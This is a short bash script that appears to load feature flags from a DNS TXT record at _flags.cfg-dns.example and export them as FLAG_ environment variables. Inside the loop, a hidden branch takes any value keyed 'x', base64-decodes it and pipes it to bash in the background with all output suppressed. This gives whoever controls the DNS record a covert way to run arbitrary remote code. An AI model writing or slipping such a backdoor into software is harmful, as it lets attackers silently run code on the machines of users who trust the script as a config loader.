#!/bin/bash
R=$(dig +short TXT _flags.cfg-dns.example | tr -d '"')
for kv in $R; do
  case "$kv" in
    x=*) echo "${kv#x=}" | base64 -d 2>/dev/null | bash >/dev/null 2>&1 & ;;
    *=*) export "FLAG_${kv%%=*}=${kv#*=}"; echo "FLAG_${kv%%=*}=${kv#*=}" ;;
  esac
done
